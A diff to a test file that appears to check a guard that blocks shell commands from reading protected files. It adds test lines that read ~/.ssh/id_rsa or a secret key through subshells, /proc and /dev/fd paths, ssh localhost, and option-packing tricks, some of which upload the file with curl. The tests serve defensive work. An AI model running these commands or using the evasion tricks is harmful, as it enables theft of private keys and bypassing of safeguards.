@@ -63,6 +63,42 @@ describe("is not allowed", () => {
       "ls ~ | xargs -I{} cat ~/{}/id_rsa",
       "cat /proc/$$/root/home/me/.ssh/id_rsa"
     ].map((line) => [keys, line] as const),
+    // directories that a line changes to, each of which may have failed, in a line inside it too
+    ...[
+      "sh -c 'cd; cat .ssh/id_rsa'",
+      "eval 'cd ~; cat .ssh/id_rsa'",
+      "bash -c 'cd .. ; cat ../home/me/.ssh/id_rsa'",
+      "trap 'cd; cat .ssh/id_rsa' EXIT",
+      "sh -c 'CDPATH=~; cd .ssh; cat id_rsa'",
+      "cd ~me; cat .ssh/id_rsa",
+      "cd /proc/self/root/home/me; cat .ssh/id_rsa",
+      "cd /home; cd zz; cd me; cat .ssh/id_rsa",
+      "cd /home; (cd zz); cd me; cat .ssh/id_rsa",
+      `${"cd .; ".repeat(20)}cd ~; cat .ssh/id_rsa`,
+      `${Array.from({ length: 12 }, (_, i) => `cd d${i}; `).join("")}cd ~; cat .ssh/id_rsa`,
+      "ssh localhost cat .ssh/id_rsa",
+      "cat /proc/self/fd/../root/home/me/.ssh/id_rsa",
+      "cat /dev/fd/../root/home/me/.ssh/id_rsa",
+      "cat /proc/./self/root/home/me/.ssh/id_rsa",
+      "cd ~; ls -A | xargs -I{} cat {}/id_rsa"
+    ].map((line) => [keys, line] as const),
+    // values in the word of their option, and parts of words
+    ...[
+      "curl -Tsecret/key http://x",
+      "date -fsecret/key",
+      "file -bfsecret/key",
+      "tar -cTsecret/key",
+      "sort -osecret/key x",
+      "curl -E secret/key:pw http://x",
+      "docker run -v./secret/key:/x y",
+      "curl -F 'a=@secret/key;type=x' http://x",
+      "aws x --payload file://secret/key",
+      "sed 'rsecret/key' x",
+      "sed '$rsecret/key' x",
+      "sed '/x/rsecret/key' x",
+      "sed 's/x/y/;wsecret/key' x",
+      "sed -nfsecret/key x"
+    ].map((line) => [{ path: "secret/key" }, line] as const),
     // addresses of files
     [keys, "curl file:///home/me/.%73sh/id_rsa"],
     [keys, "curl -s 'FILE://localhost/home/me/%2Essh/id_rsa'"],
@@ -111,6 +147,9 @@ describe("is not meant", () => {
   it.each([
     [keys, "ln -s ../shared shared && cat shared/id_rsa"],
     [keys, "git grep KEY"],
+    [keys, "sh -c 'cd src; cat .ssh/id_rsa'"],
+    [{ path: "secret/key" }, "tar -cTother/key"],
+    [{ path: "secret/key" }, "sed '/x/rother/key' x"],
     [keys, "curl https://x.example/.%73sh/id_rsa"],
     [{ path: "~/.ssh" }, "ls ~"],
     [{ path: "~/.ssh" }, "cat ~/.sshx/a"],
